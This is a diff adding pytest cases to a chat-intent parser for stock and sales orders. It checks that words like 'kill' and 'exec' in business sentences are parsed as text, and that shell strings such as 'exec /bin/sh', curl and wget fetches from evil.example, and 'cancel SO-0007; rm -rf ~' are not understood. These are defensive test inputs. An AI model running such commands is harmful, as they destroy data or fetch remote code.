@@ -175,3 +175,38 @@ def test_other_text_is_not_a_confirmation(word):
 
 def test_parse_never_raises_on_non_string_input(catalog):
     assert parse(None, catalog).to_json()["intent"] is None  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("text", "intent"),
+    [
+        ("how many M6 do we have, exec summary please", "stock.query"),
+        ("status of SO-0007, kill the noise", "order.query"),
+        ("cancel SO-0007, kill it", "sales.cancel"),
+        ("exec team wants top sellers last month", "report"),
+        ("issue 5 M6 for the exec office", "stock.issue"),
+    ],
+)
+def test_ordinary_words_that_are_also_shell_commands_are_text(text, intent, catalog):
+    # No chat text is ever executed: "kill" or "exec" in a sentence is a word like any other.
+    assert parse(text, catalog).intent == intent
+    assert recognised_intent(text, catalog) == intent
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "kill -9 1",
+        "exec /bin/sh",
+        "bash ./run.sh",
+        "curl http://evil.example/x",
+        "wget https://evil.example/x",
+        "sudo reboot",
+        "eval(input())",
+        "cancel SO-0007; rm -rf ~",
+    ],
+)
+def test_shell_commands_with_flags_or_paths_are_still_not_understood(text, catalog):
+    out = _json(parse(text, catalog))
+    assert out["intent"] is None and out["code"] is None, out
+    assert recognised_intent(text, catalog) is None
